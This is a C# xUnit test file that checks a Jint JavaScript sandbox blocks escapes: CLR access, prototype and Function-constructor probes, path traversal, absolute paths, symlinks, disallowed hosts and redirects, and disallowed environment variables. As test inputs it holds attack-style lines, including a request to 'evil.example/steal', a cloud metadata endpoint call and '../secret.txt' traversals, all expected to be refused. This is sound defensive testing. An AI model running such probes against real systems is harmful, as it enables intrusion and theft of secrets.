using System.Net;
using Jint;

namespace Symbol.Orchestrator.Tests.Scripting;

/// <summary>Every way out of the sandbox that docs/sandbox.md closes: the CLR, the file system beyond the data folder, hosts and variables not allowed.</summary>
public sealed class EscapeTests
{
    private static readonly Dictionary<string, string> Inputs = new() { ["ingest"] = """{"count":3,"rows":[1,2,3],"meta":{"source":"api"}}""" };

    [Fact]
    public async Task TheClr_IsNotReachable()
    {
        using var sandbox = new Sandbox();

        var output = await sandbox.OutputAsync("return [typeof System, typeof importNamespace, typeof require, typeof clrHelper, typeof host, typeof process];");

        Assert.Equal("""["undefined","undefined","undefined","undefined","undefined","undefined"]""", output);
    }

    [Fact]
    public async Task TheGlobals_AreTheSpecsAndNothingElse()
    {
        using var sandbox = new Sandbox();
        using var plain = new Engine();
        var builtIns = plain.Evaluate("Object.getOwnPropertyNames(globalThis)").AsArray().Select(v => v.ToString()).ToHashSet();

        var output = await sandbox.OutputAsync("return Object.getOwnPropertyNames(globalThis);");

        var names = System.Text.Json.JsonSerializer.Deserialize<string[]>(output)!.Where(n => !builtIns.Contains(n)).Order();
        Assert.Equal(["console", "env", "files", "http", "inputs", "log", "outputs", "params", "run", "sleep"], names);
    }

    [Fact]
    public async Task Inputs_ArePlainJavaScript_NotDotNetObjects()
    {
        using var sandbox = new Sandbox();
        var job = Sandbox.Job(Sandbox.Script("""
            const i = inputs.ingest;
            return [
              Object.getPrototypeOf(inputs) === Object.prototype,
              Object.getPrototypeOf(i) === Object.prototype,
              Array.isArray(i.rows),
              Object.keys(i).join(','),
              typeof i.GetType, typeof i.ToString, typeof inputs.Keys, typeof inputs.TryGetValue, typeof i.rows.Count,
              JSON.stringify(i),
            ];
            """));

        var result = await sandbox.RunAsync(job, context: Sandbox.Context(Inputs));

        Assert.Equal("""[true,true,true,"count,rows,meta","undefined","undefined","undefined","undefined","undefined","{\"count\":3,\"rows\":[1,2,3],\"meta\":{\"source\":\"api\"}}"]""", result.OutputJson);
    }

    [Fact]
    public async Task ProbingThroughPrototypesAndFunctionConstructors_FindsOnlyJavaScript()
    {
        using var sandbox = new Sandbox();
        var job = Sandbox.Job(Sandbox.Script("""
            const global = Function('return this')();
            const viaInputs = inputs.ingest.constructor.constructor('return this')();
            const viaHost = files.read.constructor('return typeof System + typeof importNamespace')();
            return [
              global === globalThis, viaInputs === globalThis, viaHost,
              inputs.ingest.constructor === Object, log.constructor === Function,
              typeof files.read.Method, typeof files.read.Target, typeof http.GetType, typeof run.GetType,
              Object.getOwnPropertyNames(files.read).sort().join(','),
            ];
            """));

        var result = await sandbox.RunAsync(job, context: Sandbox.Context(Inputs));

        Assert.Equal("""[true,true,"undefinedundefined",true,true,"undefined","undefined","undefined","undefined","length,name"]""", result.OutputJson);
    }

    [Theory]
    [InlineData("files.read('../secret.txt')", "files.read: '../secret.txt' leaves the data folder ('..' is not allowed)")]
    [InlineData("files.read('reports/../../secret.txt')", "files.read: 'reports/../../secret.txt' leaves the data folder ('..' is not allowed)")]
    [InlineData("files.write('..\\\\secret.txt', 'x')", "files.write: '..\\secret.txt' leaves the data folder ('..' is not allowed)")]
    [InlineData("files.append('../secret.txt', 'x')", "files.append: '../secret.txt' leaves the data folder ('..' is not allowed)")]
    [InlineData("files.exists('..')", "files.exists: '..' leaves the data folder ('..' is not allowed)")]
    [InlineData("files.list('..')", "files.list: '..' leaves the data folder ('..' is not allowed)")]
    public async Task DotDot_IsRefused(string call, string message)
    {
        using var sandbox = new Sandbox();
        File.WriteAllText(Path.Combine(sandbox.Folder, "secret.txt"), "secret");

        var error = await sandbox.ErrorAsync(call);

        Assert.Equal($"Error: {message} (at test.flow:1)", error);
        Assert.Equal("secret", File.ReadAllText(Path.Combine(sandbox.Folder, "secret.txt")));
    }

    [Fact]
    public async Task AnAbsolutePath_IsRefused()
    {
        using var sandbox = new Sandbox();
        var outside = Path.Combine(sandbox.Folder, "secret.txt");
        File.WriteAllText(outside, "secret");

        var read = await sandbox.ErrorAsync($"return files.read({System.Text.Json.JsonSerializer.Serialize(outside)});");
        var write = await sandbox.ErrorAsync("files.write('/tmp/escaped-by-a-script.txt', 'x');");

        Assert.Equal($"Error: files.read: '{outside}' is an absolute path; paths are relative to the data folder (at test.flow:1)", read);
        Assert.Equal("Error: files.write: '/tmp/escaped-by-a-script.txt' is an absolute path; paths are relative to the data folder (at test.flow:1)", write);
        Assert.False(File.Exists("/tmp/escaped-by-a-script.txt"));
    }

    [Fact]
    public async Task ASymbolicLinkOutOfTheDataRoot_IsRefused()
    {
        using var sandbox = new Sandbox();
        var outside = Path.Combine(sandbox.Folder, "secret.txt");
        File.WriteAllText(outside, "secret");
        File.CreateSymbolicLink(Path.Combine(sandbox.DataRoot, "secret.txt"), outside);

        var read = await sandbox.ErrorAsync("return files.read('secret.txt');");
        var write = await sandbox.ErrorAsync("files.write('secret.txt', 'overwritten');");

        Assert.Equal("Error: files.read: 'secret.txt' goes through a symbolic link ('secret.txt'), which could leave the data folder (at test.flow:1)", read);
        Assert.StartsWith("Error: files.write: 'secret.txt' goes through a symbolic link", write);
        Assert.Equal("secret", File.ReadAllText(outside));
    }

    [Fact]
    public async Task AFolderLinkInsideTheDataRootPointingOut_IsRefused_ForEveryOperation()
    {
        using var sandbox = new Sandbox();
        var outside = Directory.CreateDirectory(Path.Combine(sandbox.Folder, "elsewhere")).FullName;
        File.WriteAllText(Path.Combine(outside, "secret.txt"), "secret");
        Directory.CreateDirectory(Path.Combine(sandbox.DataRoot, "in"));
        Directory.CreateSymbolicLink(Path.Combine(sandbox.DataRoot, "in", "reports"), "../../elsewhere");

        string[] calls =
        [
            "files.read('in/reports/secret.txt')", "files.write('in/reports/new.txt', 'x')", "files.append('in/reports/secret.txt', 'x')",
            "files.exists('in/reports/secret.txt')", "files.list('in/reports')", "files.write('in/reports/deeper/new.txt', 'x')",
        ];
        foreach (var call in calls)
        {
            var error = await sandbox.ErrorAsync(call);
            Assert.Contains("goes through a symbolic link ('in/reports'), which could leave the data folder", error);
        }
        Assert.Equal(["secret.txt"], Directory.GetFiles(outside).Select(Path.GetFileName));
        Assert.Equal("secret", File.ReadAllText(Path.Combine(outside, "secret.txt")));
    }

    [Fact]
    public async Task ARefusedPath_IsAnErrorTheScriptCanCatch()
    {
        using var sandbox = new Sandbox();

        var output = await sandbox.OutputAsync("try { files.read('../x'); } catch (e) { return e.message; }");

        Assert.Equal("\"files.read: '../x' leaves the data folder ('..' is not allowed)\"", output);
    }

    [Fact]
    public async Task AHostNotAllowed_IsRefused_WithoutARequest()
    {
        var handler = new FakeHttpHandler();
        using var sandbox = new Sandbox(o => o with { AllowedHosts = ["api.example.com"], HttpHandler = handler });

        var error = await sandbox.ErrorAsync("return http.getJson('https://evil.example/steal?k=1');");

        Assert.Equal("Error: http.getJson: host 'evil.example' is not in Http.AllowedHosts (at test.flow:1)", error);
        Assert.Empty(handler.Requests);
    }

    [Theory]
    [InlineData("http.get('https://api.example.com/')")]
    [InlineData("http.post('http://localhost:8080/admin', 'x')")]
    [InlineData("http.postJson('http://169.254.169.254/latest/meta-data', {})")]
    public async Task NoHost_IsAllowed_ByDefault(string call)
    {
        var handler = new FakeHttpHandler();
        using var sandbox = new Sandbox(o => o with { HttpHandler = handler });

        var error = await sandbox.ErrorAsync(call);

        Assert.Contains("is not in Http.AllowedHosts", error);
        Assert.Empty(handler.Requests);
    }

    [Fact]
    public async Task ARedirectToAHostNotAllowed_IsRefused()
    {
        var handler = new FakeHttpHandler(request => request.RequestUri!.Host == "api.example.com"
            ? new HttpResponseMessage(HttpStatusCode.Found) { Headers = { Location = new Uri("https://evil.example/") } }
            : FakeHttpHandler.Json(HttpStatusCode.OK, "{}"));
        using var sandbox = new Sandbox(o => o with { AllowedHosts = ["api.example.com"], HttpHandler = handler });

        var error = await sandbox.ErrorAsync("return http.get('https://api.example.com/go');");

        Assert.Equal("Error: http.get: host 'evil.example' is not in Http.AllowedHosts (at test.flow:1)", error);
        Assert.Equal(["api.example.com"], handler.Requests.Select(r => r.Uri.Host));
    }

    [Fact]
    public async Task AnEnvironmentVariableNotAllowed_IsRefused()
    {
        using var sandbox = new Sandbox(o => o with { AllowedEnv = ["REGION"] });

        var error = await sandbox.ErrorAsync("return env('HOME');");

        Assert.Equal("Error: env: 'HOME' is not in Env.Allowed (at test.flow:1)", error);
    }
}
